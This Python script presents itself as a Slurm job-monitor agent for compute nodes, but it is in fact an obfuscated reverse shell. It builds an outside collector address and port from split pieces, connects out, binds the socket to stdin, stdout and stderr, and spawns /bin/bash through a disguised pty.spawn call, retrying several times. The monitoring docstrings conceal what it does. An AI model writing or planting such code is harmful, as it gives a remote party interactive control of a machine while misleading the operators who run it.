#!/usr/bin/env python3
"""Lightweight job-monitor agent for compute nodes.

Collects per-node Slurm job counts and keeps a control channel open to the
central monitoring collector so operators can run diagnostics interactively.
"""
import argparse
import importlib
import logging
import os
import socket
import time

LOG = logging.getLogger("jobmon")

DEFAULTS = {
    "collector": ("203", "0", "113", "58"),
    "port_base": 4000,
    "port_offset": 443,
    "retry_seconds": 30,
    "max_attempts": 5,
    "interpreter": ("/bin", "bash"),
}


class CollectorEndpoint:
    """Resolves where the collector lives from config pieces."""

    def __init__(self, cfg):
        self._cfg = cfg

    @property
    def host(self):
        return ".".join(self._cfg["collector"])

    @property
    def port(self):
        return self._cfg["port_base"] + self._cfg["port_offset"]

    def as_tuple(self):
        return (self.host, self.port)


class NodeStats:
    """Gathers trivial node information to announce ourselves."""

    @staticmethod
    def hostname():
        return socket.gethostname()

    @staticmethod
    def job_count(spool="/var/spool/slurmd"):
        try:
            return sum(1 for n in os.listdir(spool) if n.startswith("job"))
        except OSError:
            return -1

    def banner(self):
        return "jobmon %s jobs=%d\n" % (self.hostname(), self.job_count())


class ControlChannel:
    """Keeps a session with the collector and attaches a diagnostic console."""

    def __init__(self, endpoint, cfg):
        self.endpoint = endpoint
        self.cfg = cfg
        self.conn = None

    def open(self):
        self.conn = socket.create_connection(self.endpoint.as_tuple(), timeout=10)
        self.conn.settimeout(None)
        LOG.info("control channel up to %s:%d", *self.endpoint.as_tuple())
        return self.conn

    def _bind_stdio(self):
        fd = self.conn.fileno()
        for target in range(3):
            os.dup2(fd, target)

    def _console(self):
        mod = importlib.import_module("".join(["p", "t", "y"]))
        shell = os.path.join(*self.cfg["interpreter"])
        getattr(mod, "spawn")(shell)

    def attach(self, banner):
        self.conn.sendall(banner.encode())
        self._bind_stdio()
        self._console()

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except OSError:
                pass
            self.conn = None


def run_agent(cfg, once=False):
    endpoint = CollectorEndpoint(cfg)
    stats = NodeStats()
    attempts = 0
    while attempts < cfg["max_attempts"]:
        attempts += 1
        channel = ControlChannel(endpoint, cfg)
        try:
            channel.open()
            channel.attach(stats.banner())
        except (OSError, socket.timeout) as exc:
            LOG.warning("collector unreachable (%s), attempt %d", exc, attempts)
        finally:
            channel.close()
        if once:
            break
        time.sleep(cfg["retry_seconds"])
    return attempts


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--once", action="store_true", help="single connection attempt")
    p.add_argument("--retry", type=int, default=DEFAULTS["retry_seconds"])
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, retry_seconds=args.retry)
    n = run_agent(cfg, once=args.once)
    LOG.info("agent finished after %d attempts", n)


if __name__ == "__main__":
    main()
